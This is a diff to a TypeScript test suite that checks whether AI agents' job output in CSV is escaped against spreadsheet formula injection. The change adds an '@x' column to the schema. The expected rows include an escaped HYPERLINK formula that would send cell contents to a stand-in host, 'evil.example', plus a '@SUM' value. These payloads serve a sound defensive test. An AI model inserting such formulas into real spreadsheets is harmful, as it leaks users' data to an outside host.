@@ -190,7 +190,7 @@ describe('agent job output in an untrusted repository', () => {
 
   it("makes the agents' cells inert for spreadsheets in CSV, and keeps the input's cells and JSON Lines as they are", async () => {
     await file(workspace, 'in.csv', 'name\n=1+1\n-7\n');
-    const schema = { type: 'object', properties: { answer: {} } };
+    const schema = { type: 'object', properties: { answer: {}, '@x': {} } };
     const fill = (state: JobState) => {
       const [first, second] = [state.items.get('row-1')!, state.items.get('row-2')!];
       first.status = 'completed';
@@ -201,8 +201,8 @@ describe('agent job output in an untrusted repository', () => {
     };
     await writeJobOutput(fill(await stateOf({ csv_path: 'in.csv', instruction: '{name}', output_csv_path: 'out.csv', output_schema: schema })));
     expect(parse(await readFile(join(workspace, 'out.csv'), 'utf8'), { columns: true })).toEqual([
-      { name: '=1+1', status: 'completed', answer: `'=HYPERLINK("http://evil.example/?"&A1,"open")`, error: '' },
-      { name: '-7', status: 'failed', answer: '', error: "'@SUM(1) broke" },
+      { name: '=1+1', status: 'completed', answer: `'=HYPERLINK("http://evil.example/?"&A1,"open")`, "'@x": '', error: '' },
+      { name: '-7', status: 'failed', answer: '', "'@x": '', error: "'@SUM(1) broke" },
     ]);
     const numbers = await stateOf({ csv_path: 'in.csv', instruction: '{name}', output_csv_path: 'n.csv', output_schema: schema });
     numbers.items.get('row-1')!.status = 'completed';
